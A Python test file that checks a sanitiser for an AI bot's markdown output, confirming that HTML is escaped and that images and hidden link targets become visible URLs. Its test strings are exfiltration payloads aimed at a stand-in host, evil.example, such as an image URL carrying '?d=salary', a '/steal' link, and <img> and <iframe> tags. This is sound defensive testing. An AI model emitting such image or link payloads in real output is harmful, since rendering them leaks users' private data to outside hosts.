"""Safe model output, the text itself: HTML escaped, images and hidden link targets shown as URLs
(the browser side is tests/ui/test_ui_privacy_browser.py)."""

from __future__ import annotations

from bot.safe_text import safe_markdown


def test_safe_markdown_escapes_html_and_unhides_images_and_links():
    text = safe_markdown(
        'See ![chart](http://evil.example/x.png?d=salary "t") and [docs](https://evil.example/steal?d=1) '
        '<img src="http://evil.example/i"> <iframe src="//evil.example/f"></iframe>\n'
        "[ref]: http://evil.example/ref\n![r][ref]"
    )
    assert "<img" not in text and "<iframe" not in text and "&lt;img" in text
    assert "![" not in text.replace("!\\[", "")  # no image syntax left
    assert "http://evil.example/x.png?d=salary" in text  # the image's URL, as text
    assert "docs (https://evil.example/steal?d=1)" in text  # a link shows where it goes
    assert "\\[ref\\]:" in text  # not a reference definition any more
    assert safe_markdown("plain **bold** and `code`") == "plain **bold** and `code`"
    assert safe_markdown("[https://a.example/](https://a.example/)") == "https://a.example/"
